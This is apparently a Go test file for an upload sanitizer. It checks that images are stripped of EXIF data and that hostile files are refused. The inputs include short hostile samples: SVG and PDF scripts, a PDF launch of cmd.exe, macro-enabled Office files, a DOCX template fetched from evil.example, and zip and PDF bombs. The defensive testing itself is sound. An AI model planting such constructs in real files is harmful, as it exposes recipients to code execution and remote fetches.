package sieve

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"strings"
	"testing"

	"polku/internal/fault"
)

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func take(data []byte) (Kept, error) { return Take(context.Background(), data) }

// why gives the word of a refusal; empty when the file is taken.
func why(t testing.TB, data []byte) string {
	t.Helper()
	_, err := take(data)
	if err == nil {
		return ""
	}
	var f *fault.Error
	if !errors.As(err, &f) || f.Kind != fault.Invalid || !strings.HasPrefix(f.Key, "file.refused.") {
		t.Fatalf("not a refusal with words: %v", err)
	}
	return strings.TrimPrefix(f.Key, "file.refused.")
}

// half is an image whose left half is red and whose right half is blue.
func half(w, h int) *image.RGBA {
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			c := color.RGBA{220, 20, 20, 255}
			if x >= w/2 {
				c = color.RGBA{20, 20, 220, 255}
			}
			img.SetRGBA(x, y, c)
		}
	}
	return img
}

func jpegOf(t testing.TB, img image.Image) []byte {
	var out bytes.Buffer
	must(t, jpeg.Encode(&out, img, nil))
	return out.Bytes()
}

// withExif puts an EXIF part with an orientation, and a marked text such as a place, into a JPEG.
func withExif(data []byte, turn int) []byte {
	tiff := []byte("Exif\x00\x00MM\x00\x2a\x00\x00\x00\x08\x00\x01\x01\x12\x00\x03\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00KOTIKATU 5")
	tiff[25] = byte(turn)
	part := binary.BigEndian.AppendUint16([]byte{0xff, 0xe1}, uint16(len(tiff)+2))
	return append(append(append([]byte{}, data[:2]...), append(part, tiff...)...), data[2:]...)
}

func TestPhotographIsTurnedShrunkAndStripped(t *testing.T) {
	// what comes to stand in the upper left corner
	for turn, first := range map[int]string{1: "red", 2: "blue", 3: "blue", 4: "red", 5: "red", 6: "red", 7: "blue", 8: "blue"} {
		data := withExif(jpegOf(t, half(3000, 1000)), turn)
		data = append(data, "PK\x03\x04 a second file behind the picture"...)
		k, err := take(data)
		must(t, err)
		if k.Kind != JPEG || bytes.Contains(k.Data, []byte("KOTIKATU")) || bytes.Contains(k.Data, []byte("Exif")) || bytes.Contains(k.Data, []byte("second file")) {
			t.Errorf("turn %d: something of the old file stayed", turn)
		}
		img, err := jpeg.Decode(bytes.NewReader(k.Data))
		must(t, err)
		w, h := img.Bounds().Dx(), img.Bounds().Dy()
		if turn >= 5 {
			w, h = h, w
		}
		if w != 2000 || h != 666 {
			t.Errorf("turn %d: %d×%d", turn, w, h)
		}
		r, _, b, _ := img.At(10, 10).RGBA()
		if (r > b) != (first == "red") {
			t.Errorf("turn %d: %s is not first", turn, first)
		}
		thumb, err := jpeg.Decode(bytes.NewReader(k.Thumb))
		must(t, err)
		if max(thumb.Bounds().Dx(), thumb.Bounds().Dy()) != 160 {
			t.Errorf("thumb %v", thumb.Bounds())
		}
	}
}

func TestPNGKeepsWhatItLetsThrough(t *testing.T) {
	img := half(100, 50)
	img.SetRGBA(0, 0, color.RGBA{})
	var out bytes.Buffer
	must(t, png.Encode(&out, img))
	k, err := take(out.Bytes())
	must(t, err)
	got, err := png.Decode(bytes.NewReader(k.Data))
	must(t, err)
	if _, _, _, a := got.At(0, 0).RGBA(); k.Kind != PNG || a != 0 || got.Bounds().Dx() != 100 {
		t.Errorf("%s, alpha %d, %v", k.Kind, a, got.Bounds())
	}
}

// pngOf is the head of a PNG of a size, without pixels.
func pngOf(w, h uint32) []byte {
	head := append([]byte("IHDR"), binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, w), h)...)
	head = append(head, 8, 6, 0, 0, 0)
	out := append([]byte("\x89PNG\r\n\x1a\n"), 0, 0, 0, 13)
	out = append(out, head...)
	return binary.BigEndian.AppendUint32(out, crc32.ChecksumIEEE(head))
}

// zipOf makes a document of parts: name, content, name, content …
func zipOf(t testing.TB, parts ...string) []byte {
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	for i := 0; i < len(parts); i += 2 {
		w, err := z.Create(parts[i])
		must(t, err)
		_, err = w.Write([]byte(parts[i+1]))
		must(t, err)
	}
	must(t, z.Close())
	return out.Bytes()
}

const (
	wordTypes  = `<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
	excelTypes = `<Types><Override ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`
	macroTypes = `<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`
)

// pdfOf makes a PDF of objects.
func pdfOf(objects ...string) []byte {
	out := "%PDF-1.7\n"
	for i, o := range objects {
		out += fmt.Sprintf("%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	return []byte(out + "trailer << /Root 1 0 R >>\n%%EOF\n")
}

const page = "<< /Type /Page /Parent 2 0 R >>"

// pack is a stream of packed objects.
func pack(t testing.TB, text string) string {
	var out bytes.Buffer
	z := zlib.NewWriter(&out)
	_, err := z.Write([]byte(text))
	must(t, err)
	must(t, z.Close())
	return "<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n" + out.String() + "\nendstream"
}

func TestDocumentsAreTaken(t *testing.T) {
	for _, c := range []struct {
		kind  Kind
		pages int
		data  []byte
	}{
		{PDF, 2, pdfOf("<< /Type /Catalog >>", "<< /Type /Pages /Count 2 >>", page, page)},
		{PDF, 1, pdfOf("<< /Type /Catalog >>", pack(t, "3 0 << /Type /Page /Parent 2 0 R >>"))},
		{Text, 0, []byte("Sovittiin: tavataan torstaina.\r\n\tKahvi kympiltä ☕\n")},
		{DOCX, 0, zipOf(t, "[Content_Types].xml", wordTypes, "word/document.xml", "<w:document/>",
			"word/_rels/document.xml.rels", `<Relationships><Relationship Type="http://x/hyperlink" TargetMode="External" Target="https://kela.fi"/></Relationships>`)},
		{XLSX, 0, zipOf(t, "[Content_Types].xml", excelTypes)},
		{ODT, 0, zipOf(t, "mimetype", "application/vnd.oasis.opendocument.text", "content.xml", "<office/>")},
	} {
		k, err := take(c.data)
		must(t, err)
		if k.Kind != c.kind || k.Pages != c.pages || !bytes.Equal(k.Data, c.data) {
			t.Errorf("%s with %d pages, wanted %s with %d", k.Kind, k.Pages, c.kind, c.pages)
		}
	}
}

// Each hostile or odd file is refused with the words that tell how to mend it.
func TestHostileFilesAreRefused(t *testing.T) {
	bomb := zipOf(t, "[Content_Types].xml", wordTypes, "word/media/a.bin", strings.Repeat("\x00", unpackMost+1))
	lossless := append([]byte("RIFF\x20\x00\x00\x00WEBPVP8L\x05\x00\x00\x00"), 0x2f, 0, 0, 0, 0, 0)
	scans := append(withExif(jpegOf(t, half(8, 8)), 1), bytes.Repeat([]byte{0xff, 0xda, 0, 0}, scansMost+1)...)
	for name, c := range map[string]struct {
		why  string
		data []byte
	}{
		"nothing":                          {"empty", nil},
		"50 000 × 50 000 pixels":           {"pixels", pngOf(50_000, 50_000)},
		"an image that ends early":         {"damaged", jpegOf(t, half(500, 500))[:900]},
		"a thousand scans":                 {"damaged", scans},
		"SVG with a script":                {"markup", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)},
		"a page that calls itself a photo": {"markup", []byte("<!DOCTYPE html><title>kuva.jpg</title>")},
		"XML":                              {"markup", []byte(`<?xml version="1.0"?><x/>`)},
		"a program":                        {"unknown", []byte("MZ\x90\x00\x03\x00\x00\x00")},
		"HEIC":                             {"heic", []byte("\x00\x00\x00\x18ftypheic\x00\x00\x00\x00")},
		"video":                            {"video", []byte("\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00")},
		"GIF":                              {"gif", []byte("GIF89a")},
		"lossless WebP":                    {"webp", lossless},
		"doc of old":                       {"old_office", []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")},
		"a plain zip":                      {"archive", zipOf(t, "kuva.txt", "x")},
		"a zip bomb":                       {"bomb", bomb},
		"too many parts":                   {"bomb", append([]byte("PK\x03\x04"), bytes.Repeat([]byte("PK\x01\x02"), partsMost+1)...)},
		"macros by type":                   {"macros", zipOf(t, "[Content_Types].xml", macroTypes)},
		"macros by part":                   {"macros", zipOf(t, "[Content_Types].xml", wordTypes, "word/vbaProject.bin", "x")},
		"old macro sheets":                 {"macros", zipOf(t, "[Content_Types].xml", excelTypes, "xl/macrosheets/sheet1.xml", "x")},
		"a script in ODT":                  {"macros", zipOf(t, "mimetype", "application/vnd.oasis.opendocument.text", "content.xml", `<script:event-listener/>`)},
		"a template from elsewhere": {"fetches", zipOf(t, "[Content_Types].xml", wordTypes, "word/_rels/settings.xml.rels",
			`<Relationships><Relationship Type="http://x/attachedTemplate" TargetMode="External" Target="http://evil.example/t.dotm"/></Relationships>`)},
		"PDF with a script":          {"pdf_acts", pdfOf("<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>", page)},
		"PDF with a hidden script":   {"pdf_acts", pdfOf("<< /OpenAction << /S /J#61vaScript >> >>", page)},
		"PDF with a packed script":   {"pdf_acts", pdfOf(page, pack(t, "1 0 << /S /JavaScript >>"))},
		"PDF that starts a program":  {"pdf_acts", pdfOf("<< /S /Launch /F (cmd.exe) >>", page)},
		"PDF with a file in it":      {"pdf_acts", pdfOf("<< /Type /EmbeddedFile >>", page)},
		"PDF with an XFA form":       {"pdf_acts", pdfOf("<< /AcroForm << /XFA 3 0 R >> >>", page)},
		"PDF with a password":        {"pdf_locked", pdfOf("<< /Encrypt 5 0 R >>", page)},
		"PDF packed in another way":  {"pdf_odd", pdfOf(page, strings.Replace(pack(t, "x"), "/FlateDecode", "[/ASCII85Decode /FlateDecode]", 1))},
		"PDF with a pack in a text":  {"pdf_odd", pdfOf("<< /Type /ObjStm /X (", page)},
		"PDF bomb":                   {"bomb", pdfOf(page, pack(t, strings.Repeat(" ", objectsMost+1)))},
		"PDF without pages":          {"damaged", pdfOf("<< /Type /Catalog >>")},
		"PDF that ends early":        {"damaged", []byte("%PDF-1.7\n1 0 obj")},
		"PDF of very many pages":     {"pdf_pages", pdfOf(strings.Repeat(page+" ", pagesMost+1))},
		"PDF behind something else":  {"unknown", append([]byte("\x01\x02"), pdfOf(page)...)},
		"text with a control letter": {"unknown", []byte("abc\x07def")},
	} {
		if got := why(t, c.data); got != c.why {
			t.Errorf("%s: refused as %q, wanted %q", name, got, c.why)
		}
	}
	if got := why(t, make([]byte, Most+1)); got != "big" {
		t.Errorf("too large: %q", got)
	}
}

// A picture is what its content says, whatever its name said; its pixels decide what it costs.
func TestCostOfProgressiveJPEG(t *testing.T) {
	h := head{}
	frame := []byte{8, 0x10, 0, 0x10, 0, 3, 1, 0x22, 0, 2, 0x11, 0, 3, 0x11, 0} // 4096 × 4096, 4:2:0
	h.frame(frame, false)
	if want := int64(4096 * 4096 * 6 / 4); h.bytes != want {
		t.Errorf("%d bytes, wanted %d", h.bytes, want)
	}
	h.frame(frame, true)
	if h.bytes != 4096*4096*6/4*5 {
		t.Errorf("%d bytes progressive", h.bytes)
	}
}

// Looking a file through changes nothing in it.
func TestAPDFIsKeptAsItCame(t *testing.T) {
	data := pdfOf("<< /Type /Catalog >>", page, pack(t, "3 0 <</Type/Page>>"))
	came := bytes.Clone(data)
	k, err := take(data)
	must(t, err)
	if !bytes.Equal(data, came) || !bytes.Equal(k.Data, came) {
		t.Error("the bytes were changed")
	}
}

// Whatever the bytes are: a refusal with words or a file of a known kind; images come out small enough, and what came out
// comes in again.
func FuzzTake(f *testing.F) {
	f.Add(withExif(jpegOf(f, half(40, 20)), 6))
	f.Add(pngOf(10, 10))
	f.Add(pdfOf("<< /Type /Catalog >>", page, pack(f, "3 0 <</Type/Page>>")))
	f.Add(zipOf(f, "[Content_Types].xml", wordTypes, "word/_rels/x.rels", "<a/>"))
	f.Add([]byte("RIFF\x20\x00\x00\x00WEBPVP8 \x05\x00\x00\x00abcde"))
	f.Add([]byte("hei"))
	f.Fuzz(func(t *testing.T, data []byte) {
		if why(t, data) != "" {
			return
		}
		k, err := take(data)
		must(t, err)
		if !k.Kind.Known() || len(k.Data) == 0 {
			t.Fatalf("kind %q, %d bytes", k.Kind, len(k.Data))
		}
		again, err := take(k.Data)
		if err != nil || again.Kind != k.Kind {
			t.Fatalf("what came out does not come in: %v", err)
		}
	})
}
